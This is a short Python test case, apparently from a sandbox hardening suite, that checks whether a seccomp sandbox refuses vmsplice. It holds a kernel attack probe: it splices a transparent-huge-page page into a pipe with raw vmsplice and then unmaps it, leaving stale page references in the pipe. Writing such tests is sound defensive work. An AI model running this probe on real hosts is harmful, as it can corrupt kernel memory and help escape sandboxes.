# Attack: leave pages in a pipe that no mapping has any more, each with the huge page around it.
# Verdict: ok
# Limits: memory=64
# Open without: seccomp
# Safe: refused.
VMSPLICE, HUGE = 278, 2 << 20
ours, theirs = os.pipe()
libc.mmap.restype = ctypes.c_void_p


def leave_page():
    place = libc.mmap(None, ctypes.c_size_t(2 * HUGE), 3, 0x22, -1, ctypes.c_long(0))
    page = (place + HUGE - 1) & -HUGE
    libc.madvise(ctypes.c_void_p(page), ctypes.c_size_t(HUGE), 14)
    ctypes.memset(page, 1, 1)
    part = (ctypes.c_size_t * 2)(page, 4096)
    left = syscall(VMSPLICE, theirs, ctypes.addressof(part), 1, 0)
    libc.munmap(ctypes.c_void_p(place), ctypes.c_size_t(2 * HUGE))
    return left


attempt("a page", leave_page)
